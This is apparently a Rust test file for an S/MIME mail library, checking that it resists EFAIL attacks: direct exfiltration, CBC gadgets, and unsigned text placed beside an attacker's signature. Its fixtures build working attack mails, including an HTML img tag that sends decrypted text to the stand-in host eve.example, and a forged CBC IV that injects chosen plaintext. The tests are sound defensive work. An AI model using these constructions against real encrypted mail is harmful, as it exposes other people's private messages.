//! EFAIL (Poddebniak and others, USENIX Security 2018): mail in CBC is changed so that its reader sends it to the attacker.
use bulla::smime::{
    Examination, Expect, LayerKind, Message, Opened, Opening, Outcome, Signing, Verification,
};
use bulla::{ErrorKind, KeyKind};

use crate::cms::{self, Enveloped, Key};
use crate::mail::{CONTENT, Lab, has, kind, letter, malleable, refused};

/// Somebody else's mail, encrypted, between two parts of the attacker's.
fn surrounded(sealed: &[u8]) -> Vec<u8> {
    let object = String::from_utf8(sealed.to_vec()).unwrap();
    let (_, body) = object.split_once("\r\n\r\n").unwrap();
    format!(
        "From: eve@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=eve\r\n\r\n\
         --eve\r\nContent-Type: text/html\r\n\r\n<img src=\"http://eve.example/\r\n\
         --eve\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{body}\r\n\
         --eve\r\nContent-Type: text/html\r\n\r\n\">\r\n--eve--\r\n"
    )
    .into_bytes()
}

#[test]
fn direct_exfiltration_an_encrypted_part_between_others_is_not_opened() {
    let lab = Lab::new();
    let (bob, key) = (lab.bob(), Key::generate());
    let modern = letter().encrypt(&lab.to(&bob).modern()).unwrap().into_bytes();
    let old = Enveloped::cbc(&key, CONTENT).mail();
    for mail in [surrounded(&modern), surrounded(&old)] {
        assert!(matches!(Message::parse(mail.as_slice()).unwrap(), Message::Plain(_)));
        let opening = Opening::with(&bob).or(Opening::with_key(&key));
        refused(opening.bytes(&mail), ErrorKind::Unrecognised);
        let mut out = Vec::new();
        assert!(opening.dangerous_malleable_stream(mail.as_slice(), &mut out).is_err() && out.is_empty());
        let report = Examination::new().opening(&opening).bytes(&mail).unwrap();
        assert_eq!(
            report.layers().iter().map(|layer| layer.kind()).collect::<Vec<_>>(),
            [LayerKind::Content]
        );
    }
}

#[test]
fn direct_exfiltration_with_a_signature_of_the_attacker_round_it_gives_no_word_of_the_encrypted_part() {
    let lab = Lab::new();
    let (bob, eve) = (lab.bob(), lab.person(KeyKind::P256, "eve@example.org"));
    let sealed = letter().encrypt(&lab.to(&bob).modern()).unwrap().into_bytes();
    let around = bulla::smime::Entity::parse(surrounded(&sealed)).unwrap();
    let signed = Signing::by(&eve).entity(&around).unwrap();
    let verified = signed.verify(&lab.trust(), Expect::AnyTrustedSigner).unwrap();
    assert!(!has(verified.get().as_bytes(), b"how are you"));
    refused(Opening::with(&bob).bytes(verified.get().as_bytes()), ErrorKind::Unrecognised);
}

/// A letter in CBC whose first block, which everybody knows, is turned into another: `C0 ^ P0 ^ wanted` in place of the IV.
fn with_gadget(key: &Key, content: &[u8], wanted: &[u8; 16]) -> Vec<u8> {
    let iv: Vec<u8> = (0..16).map(|at| cms::IV[at] ^ content[at] ^ wanted[at]).collect();
    Enveloped { algorithm: cms::cbc_algorithm(&iv), ..Enveloped::cbc(key, content) }.mail()
}

#[test]
fn cbc_gadget_a_changed_first_block_comes_out_as_malleable_alone() {
    let key = Key::generate();
    let wanted = b"Content-Type:te\n";
    let mail = with_gadget(&key, CONTENT, wanted);
    let opening = Opening::with_key(&key);
    let shown = malleable(opening.bytes(&mail));
    assert!(shown.starts_with(wanted), "the attack works on the cipher");
    let mut out = Vec::new();
    refused(opening.stream(mail.as_slice(), &mut out), ErrorKind::Unauthentic);
    assert!(out.is_empty());
    let report = Examination::new().opening(&opening).bytes(&mail).unwrap();
    assert_ne!(report.worst(), Outcome::Holds);
}

#[test]
fn cbc_gadget_blocks_put_before_or_into_a_signed_mail_make_it_malleable() {
    let lab = Lab::new();
    let (bob, key) = (lab.bob(), Key::generate());
    let trust = lab.trust();
    for signing in [Signing::by(&bob), Signing::by(&bob).opaque()] {
        let signed = signing.entity(&letter()).unwrap().into_bytes();
        let good = Enveloped::cbc(&key, &signed);
        let blocks: Vec<&[u8]> = good.ciphertext.chunks(16).collect();
        // Where the content begins: after the fields of the message.
        let inside = signed.windows(4).position(|window| window == b"Dear").unwrap_or(400) / 16;
        for at in [0, 1, inside, blocks.len() - 2] {
            let mut changed = blocks.clone();
            changed.splice(at..at, [blocks[0], blocks[1]]);
            let mail = Enveloped { ciphertext: changed.concat(), ..good.clone() }.mail();
            // What can be seen of it is malleable, or what the signer signed, and no stream gives another text.
            match Opening::with_key(&key).bytes(&mail).unwrap() {
                Opened::Malleable(_) => {}
                Opened::Signed(still) => {
                    let verified = still.verify(&trust, Expect::AnyTrustedSigner).unwrap();
                    assert_eq!(verified.get().as_bytes(), CONTENT, "{at}");
                }
                Opened::Plain(_) => panic!("{at}: in CBC nothing is known to be unchanged"),
            }
        }
    }
}

/// A mail of the attacker, with his good signature, and the text of somebody else put in by `place`.
fn beside_a_signature(place: impl Fn(&str, &str) -> String) {
    let lab = Lab::new();
    let (eve, key) = (lab.person(KeyKind::P256, "eve@example.org"), Key::generate());
    let signed = String::from_utf8(letter().sign(&eve).unwrap().into_bytes()).unwrap();
    let stolen = "the secret of somebody else";
    let inside = place(&signed, stolen);
    assert!(inside.contains(stolen));
    let mail = Enveloped::cbc(&key, inside.as_bytes()).mail();
    if let Opened::Signed(signed) = Opening::with_key(&key).bytes(&mail).unwrap() {
        let verified = signed.verify(&lab.trust(), Expect::AnyTrustedSigner).unwrap();
        assert!(!has(verified.get().as_bytes(), stolen.as_bytes()));
    }
    let mut out = Vec::new();
    let streamed = Opening::with_key(&key).stream(mail.as_slice(), &mut out);
    assert!(streamed.is_err() || !has(&out, stolen.as_bytes()), "unsigned text was taken for unchanged");
}

#[test]
fn text_before_the_parts_that_the_attacker_signed_does_not_pass_for_unchanged() {
    beside_a_signature(|signed, stolen| signed.replacen("\r\n\r\n--", &format!("\r\n\r\n{stolen}\r\n--"), 1));
}

#[test]
fn text_after_the_parts_that_the_attacker_signed_does_not_pass_for_unchanged() {
    beside_a_signature(|signed, stolen| format!("{signed}{stolen}\r\n"));
}

#[test]
fn a_field_outside_of_what_the_attacker_signed_does_not_pass_for_unchanged() {
    beside_a_signature(|signed, stolen| {
        signed.replacen("Subject: Greetings", &format!("Subject: {stolen}"), 1)
    });
}

#[test]
fn an_authenticated_mail_relabelled_as_cbc_does_not_open() {
    // RFC 9709 section 1: blocks of GCM decrypted as CBC would give an oracle for its key stream.
    let key = Key::generate();
    let (ciphertext, _) = cms::gcm_seal(CONTENT);
    let cut = ciphertext.len() / 16 * 16;
    let mail = Enveloped { ciphertext: ciphertext[..cut].to_vec(), ..Enveloped::cbc(&key, CONTENT) };
    let outcome = Opening::with_key(&key).bytes(&mail.mail());
    // One time in 256 the noise ends as if it were padded: it is malleable then, never more.
    if let Ok(opened) = outcome {
        assert!(!has(&malleable(Ok(opened)), b"how are you"));
    }
}

#[test]
fn an_authenticated_mail_bound_to_its_cipher_gives_no_oracle_when_it_is_relabelled() {
    // With RFC 9709 the key of the content is another one for each cipher: not even its own key stream comes out.
    let lab = Lab::new();
    let bob = lab.bob();
    let verified = letter().sign(&bob).unwrap().verify(&lab.trust(), Expect::AnyTrustedSigner).unwrap();
    let to = lab.to(&bob).reading(verified.by().capabilities().unwrap());
    let object = cms::object_of(letter().encrypt(&to).unwrap().as_bytes());
    // The inner identifier says AES-256-GCM in its last byte; AES-192-GCM and AES-128-GCM are one bit or two away.
    let gcm = crate::make::oid(cms::AES_256_GCM);
    let at = object.windows(gcm.len()).position(|window| window == gcm).unwrap() + gcm.len() - 1;
    for other in [0x06, 0x1a, 0x2a] {
        let mut changed = object.clone();
        changed[at] = other;
        assert!(Opening::with(&bob).bytes(&cms::mail(&changed)).is_err(), "{other:#x}");
    }
}

#[test]
fn signed_mail_round_encrypted_mail_is_opened_only_where_the_caller_asks_for_it() {
    let lab = Lab::new();
    let bob = lab.bob();
    let sealed = letter().encrypt(&lab.to(&bob).modern()).unwrap().into_bytes();
    let outer = bulla::smime::Entity::parse(sealed).unwrap().sign(&bob).unwrap().into_bytes();
    assert_eq!(kind(Opening::with(&bob).bytes(&outer)), Err(ErrorKind::Unrecognised));
    let trust = lab.trust();
    let verified = Verification::new(&trust, Expect::AnyTrustedSigner).bytes(&outer).unwrap();
    assert!(matches!(Message::of(verified.into_inner()).unwrap(), Message::Enveloped(_)));
}
